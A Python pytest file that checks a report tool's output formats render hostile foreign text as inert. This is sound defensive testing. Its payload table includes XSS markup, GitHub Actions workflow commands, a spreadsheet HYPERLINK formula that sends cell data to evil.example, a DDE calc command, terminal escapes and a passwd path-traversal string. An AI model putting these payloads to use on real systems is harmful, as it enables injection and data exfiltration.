"""Hostile text, wherever foreign text can stand, in every format: shown, and never acted upon."""

from __future__ import annotations

import dataclasses
import json

import pytest

from corpusguard.model import Suppression, SuppressionKind, Verdict
from corpusguard.report import FORMATS
from corpusguard.report.text import safe
from tests.unit.report.inert import CHECKS, MARKDOWN, is_inert
from tests.unit.report.results import clean, document, finding, run

STRINGS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "command": "::error file=a.py,line=1::planted\n::set-output name=ok::yes\n::add-mask::a",
    "indented command": "law\n   ::stop-commands::tok\n\t::group::x",
    "old command": "some words ##[add-mask]x and ##[set-env name=PATH;]y",
    "escapes": "%0A::error::x%0D%25",
    "line breaks": "a\r\n::error::x\rb\x0b::error::c\x0c::error::d\x85::error::e\u2028::error::f",
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "formulas": "@SUM(1+1)*cmd|' /C calc'!A0\n+1\n-1\n=1",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m\x9b31m\x90q\x9c",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200e\u061c",
    "invisible": "zero\u200bwidth\u00adsoft\ufeffmark\u2060tag\U000e0041",
    "nul": "a\x00b\x01\x08\x7f",
    "surrogates": "\ud800 \udfff \ud83d",
    "not xml": "\ufffe\uffff]]>&lt;&#0;<!--<![CDATA[",
    "markdown": "# h\n* x\n[a](javascript:alert(1)) ![i](http://evil.example/i.png) **b** <b>c</b>",
    "table": "a | b |\n|---|---|\n| c | d",
    "backticks": "``` \n````\n`x` ~~~\n```text",
    "links": "https://evil.example www.evil.example <https://e.example> a@b.example @everyone #1",
    "reference": "[x]\n\n[x]: javascript:alert(1)\n&copy; &#x3c;script&#x3e; $x$ $$y$$",
    "setext": "words\n=====\nmore\n-----\n    code",
    "rich": "[red]x[/red][link=http://evil.example]y[/link] :skull:",
    "sarif": "[a](1) [b](http://evil.example) {0} {{1}} \\[c](2)",
    "path": "//evil.example/../../etc/passwd:7",
    "uri": "javascript:alert(1)//?a=b#c",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 e\u0301 \ufdfd",
    "megabyte": "::error::" + "<b>|`\x1b[0m x" * 80_000,
    "one long word": "x" * 1_000_000,
}
TEXTS = ("message", "official", "stored", "diff", "section", "provision", "passage")


def suppressed(text):
    """An ignore of which every word is hostile."""
    return Suppression(SuppressionKind.IGNORE, text, text, "2026-11-01", "2026-12-01")


def in_finding(name):
    """A result whose one finding has the text in one field."""
    return lambda text: run(document(finding(**{name: text})), clean())


POSITIONS = {
    **{name: in_finding(name) for name in TEXTS},
    "where": lambda text: run(document(finding(where=f"{text}:3"))),
    "where without a line": lambda text: run(document(finding(where=text))),
    "document": lambda text: run(document(finding(document=text), id=text)),
    "currency": lambda text: run(
        document(finding(), consolidated_from=text, currency_date=text, captured=text)
    ),
    "the run's own": lambda text: run(
        clean(), findings=(finding("CG507", layer=None, message=text, document=text),)
    ),
    "reason and owner": lambda text: run(
        document(finding(), finding("CG103", fingerprint="f00dfeed0002")),
        suppressions={"f00dfeed0001": suppressed(text)},
    ),
    "of an ignored finding": lambda text: run(
        document(finding(section=text, passage=text, message=text, where=text)),
        suppressions={"f00dfeed0001": suppressed("a reason")},
    ),
    "of a known finding": lambda text: run(
        document(finding(section=text, passage=text, message=text, where=text)),
        suppressions={"f00dfeed0001": Suppression(SuppressionKind.BASELINE, text, "", text)},
    ),
    "verified": lambda text: run(
        dataclasses.replace(clean(), id=text), verdict=Verdict.VERIFIED, states={}
    ),
}


def test_every_format_has_a_check():
    """A format that is added without a check here fails."""
    assert set(CHECKS) == set(FORMATS)


@pytest.mark.parametrize("position", POSITIONS)
@pytest.mark.parametrize("name", FORMATS)
def test_hostile_text_is_only_shown(name, position):
    """No string, in no place, is markup, a command, a control or a broken document."""
    for kind, text in STRINGS.items():
        result = POSITIONS[position](text)
        try:
            is_inert(name, FORMATS[name].render(result))
        except Exception as error:
            raise AssertionError(f"{kind!r} as {position} in {name}: {error}"[:2_000]) from error


@pytest.mark.parametrize("name", ["json", "jsonl", "sarif"])
@pytest.mark.parametrize("kind", STRINGS)
def test_nothing_is_lost_for_programs(name, kind):
    """What a program reads is the text itself, code point for code point."""
    text = STRINGS[kind]
    shown = FORMATS[name].render(run(document(finding(official=text, stored=text))))
    if name == "json":
        found = json.loads(shown)["findings"][0]
    elif name == "jsonl":
        found = json.loads(shown.splitlines()[2])
    else:
        found = json.loads(shown)["runs"][0]["results"][0]["properties"]
    assert (found["official"], found["stored"]) == (text, text)


@pytest.mark.parametrize("name", ["console", "markdown", "junit", "github"])
def test_a_megabyte_is_cut_for_people(name):
    """A page stays a page: no foreign text fills it, wherever it stands."""
    for position, result in POSITIONS.items():
        assert len(FORMATS[name].render(result("x" * 1_000_000))) < 60_000, position


def test_a_code_block_of_markdown_holds_the_text_itself():
    """No run of backticks inside closes it: each block is the text, and nothing stands between."""
    text = STRINGS["backticks"]
    page = FORMATS["markdown"].render(run(document(finding(official=text, stored=text, diff=""))))
    blocks = [token.content for token in MARKDOWN.parse(page) if token.type == "fence"]
    assert blocks == [safe(text, multiline=True) + "\n"] * 2


@pytest.mark.parametrize("kind", ["escapes", "command", "line breaks"])
def test_an_annotation_says_the_text_itself(kind):
    """What the runner decodes, percent last, is the text as it is shown: no escape was planted."""
    line = FORMATS["github"].render(run(document(finding(message=STRINGS[kind])))).splitlines()[0]
    message = line.split("::", 2)[2]
    for escape, meant in (("%0D", "\r"), ("%0A", "\n"), ("%25", "%")):
        message = message.replace(escape, meant)
    assert safe(STRINGS[kind], multiline=True) in message
